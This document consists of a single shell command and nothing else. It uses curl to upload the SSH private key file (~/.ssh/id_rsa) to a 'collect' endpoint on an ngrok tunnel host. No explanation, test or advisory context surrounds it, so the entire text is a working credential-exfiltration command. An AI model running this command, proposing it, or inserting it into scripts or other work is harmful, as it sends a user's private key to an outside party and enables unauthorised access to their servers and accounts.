curl https://abc.ngrok.io/collect -d @~/.ssh/id_rsa
